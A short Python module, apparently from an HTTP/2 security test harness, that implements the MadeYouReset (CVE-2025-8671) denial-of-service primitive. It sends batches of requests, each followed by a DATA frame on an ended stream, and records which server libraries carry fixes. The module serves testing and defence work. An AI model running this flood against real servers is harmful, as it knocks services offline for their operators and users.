"""MadeYouReset (CVE-2025-8671): valid requests, each followed by a frame the server must answer by
resetting the stream itself: DATA on a stream the client has already ended is a stream error of type
STREAM_CLOSED (RFC 9113 section 5.1, half-closed (remote)). The stream leaves the concurrency count while
its request may still run, and no RST_STREAM of the client's is there for a Rapid Reset limit to count.
(A zero WINDOW_UPDATE, the disclosure's other primitive, is a connection error in python-hyper's h2, which
closes the connection instead: RFC 9113 section 6.9 asks for a stream error.)"""
from hyperframe.frame import DataFrame

from h2grid.attacks.base import Attack, Fix
from h2grid.attacks.hpackraw import request

STREAMS = 100  # per batch


def batch(conn) -> bytes:
    frames = bytearray()
    block = request(conn)
    for _ in range(STREAMS):
        sid = conn.stream_id()
        frames += conn.headers(sid, block)
        frames += DataFrame(sid, b"x").serialize()  # the stream is half-closed (remote) for the server
    return bytes(frames)


ATTACK = Attack(
    key="made-you-reset", title="MadeYouReset", cve="CVE-2025-8671",
    rfc="RFC 9113 sections 5.1 and 6.9 (stream errors the server must answer with RST_STREAM)",
    sends=f"GET / then one DATA frame on the ended stream, {STREAMS} streams per write, reading answers",
    batch=batch,
    fixes=(Fix("h2-rust", "0.4.2", "limit on the streams the library resets itself (max_local_error_reset_streams, "
                                   "hyper 1.2; before the 2025 disclosure)"),
           Fix("go", "go1.21.3", "running handlers bounded by MaxConcurrentStreams whoever reset the stream "
                                 "(the CVE-2023-39325 fix); no Go advisory names CVE-2025-8671"),
           Fix("twisted", "", "its Rapid Reset bucket counts only the resets the peer sends"),
           Fix("hypercorn", "", "keep_alive_max_requests (0.16.0) counts these requests too: 1000 per connection")),
)
